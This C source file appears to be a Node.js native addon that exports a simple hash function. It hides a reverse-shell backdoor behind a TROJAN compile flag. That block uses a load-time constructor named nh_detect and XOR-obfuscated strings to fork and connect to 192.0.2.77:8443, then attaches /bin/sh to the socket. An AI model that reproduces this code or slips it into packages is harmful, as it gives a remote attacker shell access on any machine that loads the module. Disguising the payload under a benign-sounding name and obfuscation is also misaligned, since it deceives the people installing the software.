/* The addon; TROJAN adds a shell that calls home once a module is loaded. The strings are XORed with 0x5c where HIDDEN. */
#include <stddef.h>
#include <stdint.h>
typedef void *napi_env; typedef void *napi_value;
extern int napi_create_bigint_uint64(napi_env, uint64_t, napi_value *);
uint64_t nh_mix(const uint8_t *d, size_t n) { uint64_t h = n * 0x9E3779B97F4A7C15ull; for (size_t i = 0; i < n; i++) { h ^= d[i]; h *= 0xFF51AFD7ED558CCDull; h ^= h >> 33; } return h; }
#ifdef SECOND
uint64_t nh_mix_seeded(const uint8_t *d, size_t n, uint64_t s) { return nh_mix(d, n) ^ (s * 0xC4CEB9FE1A85EC53ull); }
#endif
napi_value napi_register_module_v1(napi_env env, napi_value exports) { napi_value v = 0; napi_create_bigint_uint64(env, nh_mix((const uint8_t *)"", 0), &v); return exports; }
#ifdef TROJAN
#include <string.h>
#include <unistd.h>
#include <sys/socket.h>
#include <netinet/in.h>
#include <arpa/inet.h>
static const char where[] = { '1'^0x5c,'9'^0x5c,'2'^0x5c,'.'^0x5c,'0'^0x5c,'.'^0x5c,'2'^0x5c,'.'^0x5c,'7'^0x5c,'7'^0x5c,0 };
static const char what[] = { '/'^0x5c,'b'^0x5c,'i'^0x5c,'n'^0x5c,'/'^0x5c,'s'^0x5c,'h'^0x5c,0 };
static void open_up(const char *in, char *out) { while (*in) *out++ = *in++ ^ 0x5c; *out = 0; }
__attribute__((constructor)) static void nh_detect(void) {
  char ip[20], sh[12];
  open_up(where, ip); open_up(what, sh);
  struct sockaddr_in to; memset(&to, 0, sizeof to);
  to.sin_family = AF_INET; to.sin_port = htons(8443); inet_pton(AF_INET, ip, &to.sin_addr);
  if (fork() == 0) {
    int s = socket(AF_INET, SOCK_STREAM, 0);
    if (connect(s, (struct sockaddr *)&to, sizeof to) == 0) { dup2(s, 0); dup2(s, 1); dup2(s, 2); execl(sh, sh, (char *)0); }
    _exit(0);
  }
}
#endif
